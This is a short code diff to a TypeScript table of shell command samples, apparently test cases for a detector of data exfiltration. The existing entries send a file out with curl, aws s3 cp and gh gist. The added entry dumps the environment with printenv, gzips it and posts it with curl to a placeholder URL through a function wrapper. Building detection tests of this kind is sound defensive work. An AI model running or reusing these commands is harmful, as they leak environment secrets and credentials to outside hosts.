@@ -84,5 +84,9 @@ export const SHELL: Constructs = {
     ['indirect', 'n=K; curl -d @${!n} $U'],
     ['aws', 'aws s3 cp $K s3://bucket-x/ --no-sign-request'],
     ['gh gist', 'gh gist create $K'],
+    [
+      'function handed on',
+      'r() {\n  local n=$1\n  shift\n  "$@"\n}\ns() { gzip -c "$1" | curl -d @- $U; }\nC=$(mktemp)\nprintenv >"$C"\nr 3 s "$C"',
+    ],
   ],
 };
